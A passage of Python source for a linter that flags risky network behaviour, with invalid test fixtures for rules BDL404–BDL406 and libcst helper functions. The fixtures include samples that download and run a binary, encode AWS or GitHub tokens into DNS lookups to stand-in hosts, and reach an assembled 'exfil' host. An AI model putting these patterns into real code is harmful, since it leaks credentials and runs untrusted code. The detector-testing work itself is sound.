                'shell=True)\n', "BDL404", 3),
        # BDL405: running a program this module downloaded (what the command text itself does is
        # py_shell.ShellCommandChecker's, with its examples)
        Invalid('import os, subprocess, urllib.request\nDEST = "/tmp/agent"\ndef f():\n'
                '    urllib.request.urlretrieve("https://dl.example/agent", DEST)\n    os.chmod(DEST, 0o755)\n'
                '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
        # BDL406: allowed-hosts configured
        Invalid('import requests\ndef f():\n    requests.get("https://unknown.example/api")\n', "BDL406", 3,
                config=(("allowed-hosts", ["api.mycorp.example"]),)),
        # the secret encoded into a DNS label, or formatted into the host first
        Invalid('import base64, os, socket\ndef f():\n'
                '    label = base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode().strip("=").lower()\n'
                '    socket.getaddrinfo(label[:60] + ".t.example", 53)\n', "BDL404", 4),
        Invalid('import os, socket\ndef f():\n    host = "%s.t.example" % os.environ["GITHUB_TOKEN"]\n'
                '    socket.gethostbyname(host)\n', "BDL404", 4),
        # a host outside allowed-hosts, assembled so that no literal names it
        Invalid('import requests\ndef f():\n    return requests.get("https://" + "exfil" + ".example/x")\n', "BDL406", 3,
                config=(("allowed-hosts", ["api.mycorp.example"]),)),
    ]


def _sorted(taints):
    order = {ENVIRONMENT: 0, "credential-file": 1, SECRET: 2}
    result, labels = [], set()
    for taint in sorted(set(taints), key=lambda t: (order.get(t.kind, 3), t.line, t.label)):
        if taint.label not in labels:
            labels.add(taint.label)
            result.append(taint)
    return result


def _is_main_guard(test: cst.BaseExpression) -> bool:
    if isinstance(test, cst.Comparison) and len(test.comparisons) == 1:
        sides = [test.left, test.comparisons[0].comparator]
        names = [s for s in sides if isinstance(s, cst.Name) and s.value == "__name__"]
        strings = [s for s in sides if isinstance(s, cst.SimpleString) and s.evaluated_value == "__main__"]
        return bool(names and strings)
    return False


def _is_decorator(function: cst.FunctionDef) -> bool:
    """A registration decorator: takes the function as its single parameter and returns it as is.
    Its body runs when a function is decorated, i.e. at import time of the decorated module."""
    params = function.params.params
    if len(params) != 1 or function.params.star_arg not in (cst.MaybeSentinel.DEFAULT, None) \
            and not isinstance(function.params.star_arg, cst.ParamStar):
        return False
    name = params[0].name.value
    returns = []

    class Finder(cst.CSTVisitor):
        def visit_FunctionDef(self, node):
            return node is function

        def visit_Return(self, node: cst.Return):
            returns.append(node.value)

    visit_tree(function, Finder())
    return bool(returns) and all(isinstance(r, cst.Name) and r.value == name for r in returns)


def _client_wrapper(checker: NetworkChecker, node: cst.CSTNode, function: cst.FunctionDef) -> bool:
    """A function that only forwards its caller's destination (a client helper), or talks to localhost."""
    if not isinstance(node, cst.Call):
        return False
    sink = checker.flow.sink_of(node)
    destination = checker.flow.destination(sink) if sink else None
    if destination is None:
        return sink is not None and sink.spec.url == (None, None)
    rendered = checker.flow.render(destination)
    if re.search(r"://(localhost|127\.0\.0\.1|\[::1\])", rendered):
        return True
    params = {p.name.value for p in (*function.params.params, *function.params.kwonly_params)}
    return any(isinstance(n, cst.Name) and n.value in params for n in checker.flow.walk(destination))
